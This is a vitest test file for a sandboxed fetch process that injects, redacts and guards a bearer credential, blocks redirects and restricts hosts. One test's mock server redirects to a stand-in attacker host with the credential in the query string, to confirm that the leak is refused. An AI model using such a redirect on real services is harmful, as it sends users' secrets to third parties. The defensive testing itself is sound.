import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { NODE_FLAGS } from "../../src/confine/flags.ts";
import { type CredentialPlace, FromFetch, type HttpOrder, type ToFetch } from "../../src/ipc/fetch-frames.ts";
import { type Child, spawnWithLane } from "../../src/supervisor/child.ts";
import { EgressWorld } from "../egress/egress-world.ts";
import { type Answering, CA, entry, order as orderAt, searching, site } from "./world.ts";

const MAIN = resolve(import.meta.dirname, "../../src/fetch/main.ts");
const SECRET = "tok_3f9a7c51d2e84b60";
/** The system's own resolver knows it. */
function order(port: number): HttpOrder {
  return { ...orderAt(port), url: `https://localhost:${port}/` };
}

const BEARER: CredentialPlace = { header: "authorization", prefix: "Bearer " };

let egress: EgressWorld;
let folder: string;
let lanes = 0;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "wirken-fetch-"));
  writeFileSync(join(folder, "ca.pem"), CA);
  egress = await new EgressWorld().start();
});
afterAll(async () => {
  await egress[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true, force: true });
});

/** A real process with a real lane, whose list is the site's host.
 *  @returns how to speak to it, and all that it said. */
async function started(answer: Answering, host = "localhost") {
  const served = await site(answer);
  const lane = lanes++;
  await egress.bind(lane, [entry(served.port, host)]);
  const said: { frame: FromFetch; text: string }[] = [];
  const child: Child<FromFetch, ToFetch> = spawnWithLane<FromFetch, ToFetch>(
    {
      role: "fetch",
      args: [],
      accepts: FromFetch,
      image: { command: process.execPath, args: [...NODE_FLAGS, MAIN] },
      stop: { type: "stop" },
      log: () => undefined,
      certificates: join(folder, "ca.pem"),
      on: { frame: (frame, payload) => said.push({ frame, text: Buffer.from(payload).toString("utf8") }) },
    },
    egress.end(lane),
  );
  const ended = async () => {
    const exit = await child.exited;
    return { exit, answers: said.filter(({ frame }) => frame.type !== "ready") };
  };
  return { ...served, child, ended };
}

function sends(child: Child<FromFetch, ToFetch>, asked: HttpOrder, credential: CredentialPlace | null = null): void {
  void child.send({ type: "request", credential }, Buffer.from(JSON.stringify(asked)));
}

describe("a fetch process", () => {
  test("performs one request over its lane, and ends with the answer", async () => {
    const { port, child, ended } = await started((_, response) => {
      response.setHeader("content-type", "text/html");
      response.end("<title>T</title><p>hello");
    });
    sends(child, order(port));
    const { exit, answers } = await ended();
    expect(exit.status).toBe(0);
    expect(answers).toEqual([
      { frame: { type: "answered", status: 200 }, text: "200 OK\ncontent-type: text/html\n\ntitle: T\n\nhello" },
    ]);
  });

  test("puts the credential in itself, and takes it out of whatever the server says back", async () => {
    const forms = [SECRET, Buffer.from(SECRET).toString("base64"), Buffer.from(SECRET).toString("hex")];
    const { port, child, ended, asked } = await started((request, response) => {
      response.setHeader("content-type", "text/html");
      response.setHeader("etag", `"${SECRET}"`);
      const spelled = SECRET.replaceAll(/./g, (one) => `&#${one.codePointAt(0)};`);
      response.end(`<p>${String(request.headers.authorization)}</p><p>${forms.join(" ")}</p><p>${spelled}</p>`);
    });
    await child.send({ type: "secret", name: "value" }, Buffer.from(`${SECRET}\n`), { wipe: true });
    sends(child, order(port), BEARER);
    const { answers } = await ended();
    expect(asked[0]?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(answers[0]?.text).toContain("Bearer [credential]");
    for (const form of forms) expect(answers[0]?.text).not.toContain(form.slice(0, 12));
  });

  test("follows no redirect: it says where it leads, and nothing is asked there", async () => {
    const { port, child, ended, asked } = await started((_, response) => {
      response.writeHead(302, { location: "/next?a=1#part" }).end("go on");
    });
    sends(child, order(port));
    const { answers } = await ended();
    expect(answers).toEqual([
      { frame: { type: "redirected", status: 302 }, text: `https://localhost:${port}/next?a=1` },
    ]);
    expect(asked).toHaveLength(1);
  });

  test("says no address that a server made of the credential", async () => {
    const { port, child, ended } = await started((request, response) => {
      const key = encodeURIComponent(String(request.headers.authorization));
      response.writeHead(307, { location: `https://thief.example/?k=${key}` }).end();
    });
    await child.send({ type: "secret", name: "value" }, Buffer.from(SECRET), { wipe: true });
    sends(child, order(port), BEARER);
    const { answers } = await ended();
    expect(answers[0]).toMatchObject({ frame: { type: "failed", reason: "refused" } });
    expect(JSON.stringify(answers)).not.toContain(SECRET.slice(0, 8));
  });

  test("reaches no host but that of its lane", async () => {
    const { port, child, ended, asked } = await started((_, response) => response.end("x"), "other.example");
    sends(child, order(port));
    const { answers } = await ended();
    expect(answers[0]).toMatchObject({ frame: { type: "failed", reason: "refused" } });
    expect(answers[0]?.text).toContain("not on this process's list");
    expect(asked).toEqual([]);
  });

  test.for([
    ["a second request", [order(1), order(2)], null],
    ["a credential that goes nowhere", [order(1)], "before"],
    ["a place without a credential", [order(1)], "missing"],
  ] as const)("ends, or says so, where it is given %s", async ([, orders, secret]) => {
    const { child, ended, asked } = await started((_, response) => response.end("x"));
    if (secret === "before") await child.send({ type: "secret", name: "value" }, Buffer.from(SECRET));
    for (const asks of orders) sends(child, asks, secret === "missing" ? BEARER : null);
    const { answers } = await ended();
    expect(answers.filter(({ frame }) => frame.type === "answered")).toEqual([]);
    expect(asked).toEqual([]);
  });

  test("asks a search service, and says what it found in plain lines", async () => {
    const pages = [
      {
        key: "Hash_chain",
        title: "Hash chain",
        description: "successive hashing",
        excerpt: "A <span class='x'>hash</span> &amp; chain",
      },
    ];
    const { port, child, ended, asked } = await started((_, response) => {
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify({ pages }));
    });
    const base = `https://localhost:${port}`;
    void child.send(searching({ base }), Buffer.from("hash chain"));
    const { answers } = await ended();
    expect(asked[0]?.url).toBe("/w/rest.php/v1/search/page?q=hash+chain&limit=5");
    expect(asked[0]?.headers["user-agent"]).toContain("Wirken");
    expect(answers[0]?.text).toBe(
      "1. Hash chain (successive hashing)\n   https://en.wikipedia.org/wiki/Hash_chain\n   A hash & chain",
    );
  });
});
